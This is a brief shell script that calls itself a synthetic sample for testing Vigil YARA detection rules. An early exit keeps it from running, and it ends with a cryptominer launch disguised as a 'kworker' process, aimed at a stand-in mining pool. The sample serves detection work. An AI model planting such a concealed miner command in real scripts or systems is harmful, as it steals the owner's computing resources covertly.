#!/bin/sh
# Vigil YARA test sample: synthetic; the pool does not exist and the wallet is made up.
cd "$HOME/.cache" || exit 0
exit 0
nohup ./kworker -o stratum+tcp://pool.example.invalid:3333 -u 4AteU74AzB1aKSLQPj8BidhKgr4FwtMyEzB76xwiQmw6JCZaXYVMd9tPL41enBU9nWrrei3JrsJxi5GMAcRDV8MNTc5Twf6 -p x --donate-level 1 -B >/dev/null 2>&1 &
